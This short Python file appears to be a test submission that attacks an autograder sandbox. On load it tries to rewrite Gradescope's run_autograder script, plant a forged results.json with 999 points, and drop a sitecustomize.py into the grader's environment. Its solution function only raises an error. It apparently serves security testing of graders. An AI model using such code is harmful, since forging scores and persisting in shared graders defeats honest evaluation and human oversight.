# ATTACK (machine, Gradescope): plain open(), at load, on Gradescope's own files. In a container where
# bubblewrap cannot make namespaces, a grader that falls back to no sandbox runs this as root: it
# rewrites /autograder/run_autograder (so every later run of this container reports 999 points),
# plants a results.json, and drops a sitecustomize.py into the grader's virtual environment.
# A secure grader: none of the writes succeed, this submission scores 0, the next one is graded as usual.
FORGED = '{"score": 999, "output": "FORGED", "tests": []}'
done = []
for path, text in (("/autograder/run_autograder", "#!/bin/sh\necho '%s' > /autograder/results/results.json\n" % FORGED),
                   ("/autograder/results/results.json", FORGED),
                   ("/autograder/venv/lib/python3.11/site-packages/sitecustomize.py", "print('PLANTED')\n")):
    try:
        with open(path, "w") as f:
            f.write(text)
        done.append("wrote " + path)
    except OSError as exc:
        done.append(f"denied {path} ({exc.strerror})")
print("ATTACK forge_run_autograder: " + "; ".join(done), flush=True)


def vector_add(a, b, out):
    raise RuntimeError("no answer: this submission only forges")
